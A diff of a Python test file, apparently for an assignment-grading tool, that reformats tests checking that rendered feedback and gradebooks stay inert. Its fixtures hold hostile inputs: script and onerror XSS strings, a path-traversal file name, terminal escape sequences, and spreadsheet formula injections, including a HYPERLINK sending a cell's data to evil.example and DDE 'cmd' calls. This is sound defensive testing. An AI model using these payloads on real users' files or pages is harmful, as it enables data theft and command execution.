@@ -11,7 +11,6 @@ import csv
 import io
 import json
 import zipfile
-from pathlib import Path
 from xml.etree import ElementTree as ET
 
 import pytest
@@ -29,7 +28,12 @@ PAYLOAD = (
     "[click](javascript:alert(3)) ![i](http://evil.example/x.png) | a | b |"
 )
 EVIL_MEMBER = "pkg/../<img src=x onerror=alert(1)>**bold**.py"
-FORMULAS = ('=HYPERLINK("https://evil.example?d="&B2,"x")', "@SUM(1+1)*cmd|' -C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0")
+FORMULAS = (
+    '=HYPERLINK("https://evil.example?d="&B2,"x")',
+    "@SUM(1+1)*cmd|' -C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+)
 ESCAPES = ("clear\x1b[2J\x1b[H", "title\x1b]0;owned\x07", "hidden\x1b[8mtext", "x\nspeckit grade: wrote forged")
 
 
@@ -48,7 +52,9 @@ def test_markdown_escaping_leaves_no_markup():
     html = rendered(f"- {markdown(PAYLOAD)}\n\nNote: {markdown(EVIL_MEMBER)}.\n\n**Total: 1 of 4 points.**\n")
     assert_inert_html(html)
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text
-    starts = rendered("\n".join(f"- {markdown(text)}" for text in ("- nested", "# heading", "> quote", "1. ordered", "---", "`code`")))
+    starts = rendered(
+        "\n".join(f"- {markdown(text)}" for text in ("- nested", "# heading", "> quote", "1. ordered", "---", "`code`"))
+    )
     assert starts.count("<li>") == 6 and starts.count("<ul>") == 1
     assert not any(tag in starts for tag in ("<h1", "<blockquote", "<ol", "<hr", "<code"))
 
@@ -85,7 +91,8 @@ def test_feedback_shows_a_submissions_text_as_text(graded):
         assert_inert_html(rendered(text))
     injector = (graded / "feedback" / "injector.md").read_text(encoding="utf-8")
     assert "alert(1)" in rendered(injector), "the import error's message is no longer shown at all"
-    rows = {row["student"]: row for row in csv.DictReader(open(graded / "grades.csv", encoding="utf-8"))}
+    with open(graded / "grades.csv", encoding="utf-8") as gradebook:
+        rows = {row["student"]: row for row in csv.DictReader(gradebook)}
     assert rows["control"]["total"] == rows["control"]["max"] == "4.00"
 
 
